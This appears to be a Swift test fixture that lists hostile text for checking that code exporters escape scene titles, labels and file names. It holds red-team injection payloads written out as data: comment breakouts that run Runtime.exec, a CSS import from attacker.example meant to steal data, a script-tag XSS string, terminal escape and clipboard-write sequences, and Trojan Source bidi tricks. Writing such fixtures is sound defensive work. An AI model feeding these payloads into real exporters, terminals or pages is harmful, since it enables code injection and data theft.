/// Text an attacker would put in a scene's title, a group's label, a file name or a recording's
/// field, to end a comment or a string in an export and make the rest code, to drive a terminal,
/// or to make code read other than it compiles. The red team's cases come first.
enum HostileText {
    /// Every line break some reader honours: LF, CR, CR LF, VT, FF, NEL, LINE SEPARATOR,
    /// PARAGRAPH SEPARATOR.
    static let lineBreaks = ["\n", "\r", "\r\n", "\u{0B}", "\u{0C}", "\u{85}", "\u{2028}", "\u{2029}"]

    /// Terminal control: a title sequence, a clear-screen, an OSC 52 clipboard write, a bell, CSI.
    static let terminal = [
        "\u{1B}]0;owned\u{07}", "\u{1B}[2J\u{1B}[H", "\u{1B}]52;c;ZXZpbA==\u{07}", "\u{07}", "\u{9B}31m", "\u{7F}",
    ]

    /// Bidirectional controls and marks (Trojan Source).
    static let bidi = [
        "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
        "\u{200E}", "\u{200F}", "\u{061C}",
    ]

    /// What a title or label may hold (the scene reader refuses the rest) and still tries to
    /// leave its comment or string, in every language the exports are written in.
    static let printable = [
        // The red team's cases.
        "Evil */ val pwned = Runtime.getRuntime().exec(cmd) /* x",
        "Photos /* beta",
        #"Cards */ @import url("https://attacker.example/steal.css"); body { display: none !important } /* "#,
        "</style><script>alert(1)</script>",
        // Comment delimiters, alone and overlapping.
        "*/", "/*", "/**/", "*/*/", "/*/", "**/", "/**", "/// x", "// x", "*/ /*", "a*/b/*c", "*", "/",
        "</STYLE >", "</style", "<!-- -->", "]]>",
        // Strings and interpolation in each language.
        #"""""#, #"""""""#, "'", "'''", #"""#, #"\"#, #"\\"#, #"\(pwned())"#, ##"\#(pwned())"##, ##"#""##, ##""#"##,
        "${pwned()}", "$pwned", "$(pwned)", "`pwned`", "```", "{{pwned}}", "%>", "@import 'x';", "} body {",
        // Escapes written out as text.
        #"\u000a"#, #"\n"#, #"\u{2028}"#, #"\0"#,
        // Ordinary text that must come through as it is.
        "Café 😀 卡片", String(repeating: "Long title ", count: 18),
    ]

    /// Only a file name (or a recording's `file`) may hold these raw: the scene reader refuses
    /// them in titles and labels, and the command line refuses such a file, but the exporters
    /// must keep them out of code all the same.
    static let unprintable: [String] =
        lineBreaks.map { "a\($0)b" } + terminal + bidi
        + [
            // The red team's injection through a file name.
            "a\n func max(_ a:CGFloat,_ b:CGFloat)->CGFloat{print(\"INJECTED_CODE_RAN\");return Swift.max(a,b)};//",
            "a\r\nval pwned = 1\r\n//", "x\u{2028}pwned()\u{2029}", "tab\there",
            // Trojan Source: reads as a comment, compiles as code.
            "a\u{202E} }⁦// x\u{2066}",
        ]

    static let all = printable + unprintable

    /// File names whose scene id (`Scene.id(forFile:)`) is no identifier as it stands: it has no
    /// letter or digit, starts with a digit, is a keyword or a core type of a language the exports
    /// are written in, or, with a printer's suffix, spells a type the export uses itself
    /// (`PagerSnapHelper`, `BouncingScrollPhysics`).
    static let identifierFileNames = [
        "_.json", "__.json", "-.json", "_-_.json", "é.json", "卡片.json", "9.json", "9_.json", "_9.json",
        "3d-cards.json", "007-bond.json",
        // Keywords and core types of Swift, Kotlin, Dart and CSS.
        "List.json", "Widget.json", "class.json", "in.json", "val.json", "var.json", "let.json", "fun.json",
        "object.json", "struct.json", "enum.json", "self.json", "Self.json", "Type.json", "import.json",
        "default.json", "is.json", "as.json", "null.json", "nil.json", "true.json", "super.json", "this.json",
        "void.json", "dynamic.json", "String.json", "Int.json", "Any.json", "View.json", "when.json",
        "inherit.json", "important.json",
        // With a printer's suffix, a platform's type.
        "pager.json", "linear.json", "bouncing.json", "page.json", "clamping.json", "always-scrollable.json",
    ]
}
